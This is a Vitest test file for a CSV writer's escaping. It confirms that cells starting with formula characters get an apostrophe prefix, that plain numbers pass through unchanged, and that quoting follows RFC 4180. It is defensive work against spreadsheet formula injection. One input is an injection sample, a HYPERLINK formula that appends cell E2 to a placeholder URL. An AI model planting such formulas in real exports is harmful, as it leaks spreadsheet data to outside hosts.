import { describe, expect, it } from "vitest";
import { csvField, csvQuoted, csvText, isPlainNumber, toCsv } from "../src/csv";

describe("csv cells", () => {
  it("prefixes text that a spreadsheet would take as a formula", () => {
    expect(csvText('=HYPERLINK("http://x/?"&E2,"open")')).toBe(
      `"'=HYPERLINK(""http://x/?""&E2,""open"")"`,
    );
    expect(csvText("+1+2")).toBe("'+1+2");
    expect(csvText("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvText("-2+3")).toBe("'-2+3");
    expect(csvText("\tx")).toBe("'\tx");
    expect(csvText("\rx")).toBe(`"'\rx"`);
    expect(csvText("-")).toBe("'-");
    expect(csvText("'=1")).toBe("''=1");
  });
  it("leaves numbers and ordinary text as they are", () => {
    expect(csvText("-12.50")).toBe("-12.50");
    expect(csvText("+989121234567")).toBe("+989121234567");
    expect(csvText("1e-3")).toBe("1e-3");
    expect(csvText("a=b")).toBe("a=b");
    expect(csvText("علی کریمی")).toBe("علی کریمی");
    expect(csvText("'-5")).toBe("'-5");
    expect(isPlainNumber("-1e")).toBe(false);
    expect(isPlainNumber("+.5")).toBe(true);
  });
  it("quotes per RFC 4180 and keeps formula text unprotected only when asked", () => {
    expect(csvQuoted("=1+2")).toBe("=1+2");
    expect(csvQuoted("a,b")).toBe(`"a,b"`);
    expect(csvQuoted('say "hi"')).toBe(`"say ""hi"""`);
  });
  it("writes numbers as numbers and rows with a byte-order mark", () => {
    expect(csvField(-12.5)).toBe("-12.5");
    expect(csvField(null)).toBe("");
    expect(toCsv(["name", "value"], [["=1+2", -3], ["@x", null]])).toBe(
      "\uFEFFname,value\r\n'=1+2,-3\r\n'@x,\r\n",
    );
  });
});
